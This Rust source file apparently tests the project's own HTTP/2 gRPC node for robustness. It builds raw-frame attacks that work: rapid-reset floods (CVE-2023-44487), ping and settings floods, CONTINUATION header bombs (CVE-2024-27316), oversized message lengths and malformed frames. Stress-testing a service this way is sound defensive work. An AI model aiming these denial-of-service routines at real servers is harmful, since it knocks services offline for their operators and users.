//! Attacks with frames of HTTP/2: floods, bombs, and what no client sends.

use std::time::Duration;

use super::raw::{
    ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, Outcomes, PING, PREFACE, RST_STREAM,
    Raw, SETTINGS, WINDOW_UPDATE, frame, header, message, request_headers,
};

/// How long a flood goes on if the node lets it.
const PATIENCE: Duration = Duration::from_millis(700);
const PUT: &str = "/stator.v1.Kv/Put";

/// One connection that sends `bytes` and hears what becomes of it.
async fn attack(to: &str, bytes: &[u8], answers: usize) -> Outcomes {
    match Raw::open(to, 12).await {
        Ok(mut raw) => {
            raw.send_for(PATIENCE, bytes).await;
            raw.outcome(answers, false).await
        }
        Err(error) => {
            let mut outcomes = Outcomes::default();
            outcomes.add(error.to_string());
            outcomes
        }
    }
}

/// Requests that are reset as soon as they are sent (CVE-2023-44487).
pub async fn rapid_resets(to: &str, count: usize) -> Outcomes {
    let mut bytes = Vec::new();
    for number in 0..count {
        let stream = 2 * number as u32 + 1;
        bytes.extend(frame(HEADERS, END_HEADERS, stream, &request_headers(PUT)));
        bytes.extend(frame(RST_STREAM, 0, stream, &8u32.to_be_bytes()));
    }
    attack(to, &bytes, 0).await
}

/// Pings whose answers are not read.
pub async fn pings(to: &str, count: usize) -> Outcomes {
    attack(to, &frame(PING, 0, 0, &[7; 8]).repeat(count), 0).await
}

/// Settings whose acknowledgements are not read, and acknowledgements of nothing.
pub async fn settings(to: &str, count: usize) -> Outcomes {
    let window = [0, 4, 0, 0, 255, 255];
    let mut outcomes = attack(to, &frame(SETTINGS, 0, 0, &window).repeat(count), 0).await;
    outcomes.join(attack(to, &frame(SETTINGS, ACK, 0, &[]).repeat(count), 0).await);
    outcomes
}

/// Headers that are too large: one, many, and a block that never ends (CVE-2024-27316).
pub async fn header_bombs(to: &str) -> Outcomes {
    let mut outcomes = Outcomes::default();
    let large = header("x-large", &"v".repeat(1 << 20));
    let many: Vec<u8> =
        (0..20_000).flat_map(|number| header(&format!("x-{number}"), "v")).collect();
    for block in [large, many] {
        let block = [request_headers(PUT), block].concat();
        let (first, rest) = block.split_at(16_384);
        let mut bytes = frame(HEADERS, END_STREAM, 1, first);
        for part in rest.chunks(16_384) {
            bytes.extend(frame(CONTINUATION, 0, 1, part));
        }
        bytes.extend(frame(CONTINUATION, END_HEADERS, 1, &[]));
        outcomes.join(attack(to, &bytes, 1).await);
    }
    let endless = frame(HEADERS, 0, 1, &request_headers(PUT));
    let more = frame(CONTINUATION, 0, 1, &header("x", "v")).repeat(200_000);
    outcomes.join(attack(to, &[endless, more].concat(), 1).await);
    outcomes
}

/// Messages that claim to be 4 GiB long, or compressed.
pub async fn lying_messages(to: &str) -> Outcomes {
    let gzip = [0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3];
    let bodies = [
        message(0, u32::MAX, &[0; 1024]),
        message(1, 1 << 20, &gzip),
        message(1, gzip.len() as u32, &gzip),
        message(77, 4, &[0; 4]),
        message(0, 4, &[0; 2]),
    ];
    let mut outcomes = Outcomes::default();
    for body in bodies {
        let headers = [request_headers(PUT), header("grpc-encoding", "gzip")].concat();
        let bytes = [frame(HEADERS, END_HEADERS, 1, &headers), frame(DATA, END_STREAM, 1, &body)];
        outcomes.join(attack(to, &bytes.concat(), 1).await);
    }
    outcomes
}

/// More streams than one connection may have: those beyond are refused.
pub async fn streams(to: &str, count: usize) -> Outcomes {
    let mut bytes = Vec::new();
    for number in 0..count {
        let stream = 2 * number as u32 + 1;
        bytes.extend(frame(HEADERS, END_HEADERS, stream, &request_headers(PUT)));
    }
    match Raw::open(to, 12).await {
        Ok(mut raw) => {
            raw.send_for(PATIENCE, &bytes).await;
            raw.outcome(count, true).await
        }
        Err(_) => Outcomes::default(),
    }
}

/// What no client sends: each a connection error at once, or ignored.
pub async fn nonsense(to: &str) -> Outcomes {
    let noise: Vec<u8> =
        (0..4096u32).map(|n| (n.wrapping_mul(2_654_435_761) >> 24) as u8).collect();
    let attacks = [
        noise,
        frame(DATA, 0, 0, &[1]),
        frame(DATA, 0, 99, &[1]),
        frame(HEADERS, END_HEADERS, 2, &request_headers(PUT)),
        frame(HEADERS, END_HEADERS, 1, &[0xff; 300]),
        frame(HEADERS, END_HEADERS, 1, &[]),
        frame(WINDOW_UPDATE, 0, 0, &0u32.to_be_bytes()),
        [frame(WINDOW_UPDATE, 0, 0, &0x7fff_ffffu32.to_be_bytes())].concat().repeat(2),
        frame(PING, 0, 0, &[1]),
        frame(CONTINUATION, END_HEADERS, 1, &request_headers(PUT)),
        frame(0xee, 0xff, 7, &[1; 100]).repeat(1000),
        vec![0xff; 9],
        PREFACE.to_vec(),
    ];
    let mut outcomes = Outcomes::default();
    for bytes in attacks {
        outcomes.join(attack(to, &bytes, 0).await);
    }
    outcomes
}
